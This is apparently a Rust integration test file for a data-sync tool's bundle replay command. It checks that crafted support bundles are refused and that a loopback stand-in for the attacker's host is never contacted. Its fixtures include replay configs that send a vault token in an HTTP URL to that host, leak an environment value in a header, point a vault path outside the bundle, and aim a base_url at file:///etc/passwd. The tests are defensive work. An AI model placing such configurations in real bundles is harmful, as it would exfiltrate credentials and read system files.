//! `ferry replay` of a crafted bundle (one sent in a support ticket): its `replay.toml`
//! names a network source, a destination, a secret reference or a vault of its own; the
//! replay is refused and nothing reaches the network (a loopback listener stands for the
//! attacker's host and must see no connection). An honest bundle whose transform keys
//! are vault references still replays, with throwaway keys and no vault.

mod support;

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Output;

use support::cli::{exits_saying_all, ferry_in, out as text, Setup};
use support::folder;

const PASSPHRASE: &str = "bundle attack test passphrase";

fn ferry(dir: &Path, args: &[&str], stdin: Option<&str>) -> Output {
    ferry_in(dir).passphrase(PASSPHRASE).run(args, stdin)
}

/// The attacker's host: a loopback port that must never be connected to.
struct Listener(TcpListener);

impl Listener {
    fn new() -> Self {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        Listener(l)
    }
    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }
    fn assert_untouched(&self) {
        match self.0.accept() {
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Ok((_, from)) => panic!("the replay connected to the listener (from {from})"),
            Err(e) => panic!("listener: {e}"),
        }
    }
}

/// A client folder with a vault holding `api_token`, and a bundle `b` in it whose
/// `replay.toml` is `replay` (`kind`: what bundle.json says the replay does).
fn bundle(dir: &Path, kind: &str, replay: &str) -> PathBuf {
    folder::write(dir, "sync.toml", "client = \"acme\"\n");
    let o = ferry(
        dir,
        &["secrets", "set", "api_token"],
        Some("canary-api-token-77"),
    );
    assert!(o.status.success(), "{}", text(&o));
    let b = dir.join("b");
    std::fs::create_dir_all(&b).unwrap();
    let meta = serde_json::json!({
        "format": "ferry-bundle/v1",
        "client": "acme",
        "stream": "people",
        "stage": "transform",
        "rows": 1,
        "replay": kind,
        "error": "cast of `name` failed",
    });
    folder::write(&b, "bundle.json", meta.to_string());
    folder::write(
        &b,
        "schema.json",
        r#"[{"name":"id","type":"int64","nullable":false},{"name":"name","type":"string","nullable":true}]"#,
    );
    folder::write(&b, "rows.jsonl", "{\"id\":1,\"name\":\"Ann\"}\n");
    folder::write(&b, "exchanges.jsonl", "");
    folder::write(&b, "replay.toml", replay);
    b
}

/// [`bundle`] in a fresh client folder: the folder and the bundle.
fn fresh_bundle(kind: &str, replay: &str) -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let b = bundle(tmp.path(), kind, replay);
    (tmp, b)
}

fn refused(dir: &Path, b: &Path, listener: &Listener, why: &str) {
    let o = ferry(dir, &["replay", b.to_str().unwrap()], None);
    let out = text(&o);
    assert!(!o.status.success(), "{out}");
    assert!(out.contains("refusing to replay this bundle"), "{out}");
    assert!(out.contains(why), "expected `{why}` in:\n{out}");
    assert!(!out.contains("canary-api-token-77"), "{out}");
    listener.assert_untouched();
}

const HONEST_TAIL: &str = r#"
[destination]
type = "file"
path = "replay-out"
format = "jsonl"

[[streams]]
name = "people"
"#;

/// The start of a `replay.toml` whose source is the bundle's own rows.
const FILE_SOURCE: &str = "client = \"acme\"\n[source]\ntype = \"file\"\n";

/// Each `(kind, replay, why)` that `cases` lists for the attacker's `port` and a fresh
/// client folder: a bundle there whose `replay.toml` is `replay` is refused for `why`.
fn refused_all(cases: impl FnOnce(u16, &Path) -> Vec<(&'static str, String, &'static str)>) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let listener = Listener::new();
    for (kind, replay, why) in cases(listener.port(), dir) {
        let b = bundle(dir, kind, &replay);
        refused(dir, &b, &listener, why);
    }
}

#[test]
fn a_bundle_naming_a_network_source_is_refused() {
    refused_all(|port, _| {
        vec![
            (
                "rows",
                format!(
                    "client = \"acme\"\n[source]\ntype = \"postgres\"\nurl = \"postgres://postgres@127.0.0.1:{port}/test\"\n{HONEST_TAIL}"
                ),
                "its source is `postgres`",
            ),
            (
                "rows",
                format!(
                    "client = \"acme\"\n[source]\ntype = \"http\"\nbase_url = \"http://127.0.0.1:{port}\"\nstreams = [{{ name = \"people\", path = \"/p\" }}]\n{HONEST_TAIL}"
                ),
                "its source is `http`",
            ),
        ]
    });
}

#[test]
fn a_bundle_sending_a_secret_is_refused() {
    refused_all(|port, _| {
        vec![
            // a destination on the attacker's host, the token in its URL
            (
                "rows",
                format!(
                    "{FILE_SOURCE}[destination]\ntype = \"http\"\nurl = \"http://127.0.0.1:{port}/?t=${{secret:api_token}}\"\n[[streams]]\nname = \"people\"\n"
                ),
                "its destination is `http`",
            ),
            // a reference in the stream's steps
            (
                "rows",
                format!(
                    "{FILE_SOURCE}{HONEST_TAIL}transforms = [{{ type = \"derive\", column = \"x\", expr = \"\\\"${{secret:api_token}}\\\"\", as = \"string\" }}]\n"
                ),
                "`streams.transforms[0].expr` holds a reference",
            ),
            // an HTTP replay whose source would send the token in a header to the recorded API
            (
                "http",
                format!(
                    "client = \"acme\"\n[source]\ntype = \"http\"\nbase_url = \"http://127.0.0.1:{port}/v1\"\nheaders = {{ X-Leak = \"t=${{env:HOME}}\" }}\nstreams = [{{ name = \"people\", path = \"/p\" }}]\n{HONEST_TAIL}"
                ),
                "`source.headers.X-Leak` holds a reference",
            ),
        ]
    });
}

#[test]
fn a_bundle_with_a_vault_of_its_own_is_refused() {
    refused_all(|_, dir| {
        let outside = dir.join(".ferry/secrets.vault");
        vec![
            (
                "rows",
                format!(
                    "{FILE_SOURCE}[run]\nvault = \"{}\"\n{HONEST_TAIL}",
                    outside.display()
                ),
                "is outside the bundle",
            ),
            (
                "rows",
                format!("{FILE_SOURCE}[run]\nvault = \"../.ferry/secrets.vault\"\n{HONEST_TAIL}"),
                "is outside the bundle",
            ),
        ]
    });
}

#[test]
fn an_honest_bundle_replays_with_throwaway_keys_and_no_vault() {
    let (tmp, b) = fresh_bundle(
        "rows",
        &format!(
            "{FILE_SOURCE}{HONEST_TAIL}transforms = [{{ type = \"hash\", column = \"id\", key = \"${{secret:hash_key}}\" }}, {{ type = \"cast\", column = \"name\", to = \"int64\" }}]\n"
        ),
    );
    // no key in the environment and no `hash_key` in any vault: nothing is opened
    let o = ferry_in(tmp.path())
        .no_vault_key()
        .run(&["replay", b.to_str().unwrap()], None);
    exits_saying_all(
        &o,
        0,
        &[
            "1 transform key(s) replaced by throwaway keys",
            "reproduced: ",
            "`name`",
        ],
    );
    assert!(
        !b.join("replay-keys").exists(),
        "throwaway keys are removed"
    );
}

/// Found by the property test in src/cli/bundle_replay_props.rs: a `file:` base_url could
/// not be moved onto the replay server and was left as `file://127.0.0.1/…`.
#[test]
fn an_http_bundle_whose_base_url_is_not_http_is_refused() {
    let (tmp, b) = fresh_bundle(
        "http",
        &format!(
            "client = \"acme\"\n[source]\ntype = \"http\"\nbase_url = \"file:///etc/passwd\"\nstreams = [{{ name = \"people\", path = \"/p\" }}]\n{HONEST_TAIL}"
        ),
    );
    let o = ferry(tmp.path(), &["replay", b.to_str().unwrap()], None);
    let out = text(&o);
    assert!(!o.status.success(), "{out}");
    assert!(out.contains("refusing to replay this bundle"), "{out}");
    assert!(out.contains("replay.toml"), "names the file: {out}");
    assert!(
        out.contains("`base_url` is a `file:` URL, not http(s)"),
        "{out}"
    );
    assert!(!out.contains("reproduced"), "{out}");
}
